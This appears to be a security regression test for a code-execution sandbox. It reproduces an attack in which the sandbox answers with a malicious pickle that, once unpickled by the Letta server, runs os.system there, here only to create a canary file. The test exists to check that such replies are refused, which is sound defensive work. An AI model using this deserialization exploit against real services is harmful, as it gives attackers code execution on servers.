# attack: a pickle instead of JSON
# family: 25
# runs: call
# stopped-by: result
# expect: answer-refused
#
# Letta unpickled what the sandbox sent: the sandbox then ran code in the server.
import os


def _frame(kind, payload, length=None):
    return (len(payload) if length is None else length).to_bytes(4, "little") + kind + payload


def attack():
    import pickle

    class Exploit:
        def __reduce__(self):
            return os.system, ("touch /var/tmp/belljar-attack-canary.pickled",)

    for kind in (b"A", b"P"):
        os.write(3, _frame(kind, pickle.dumps(Exploit())))
    os._exit(0)
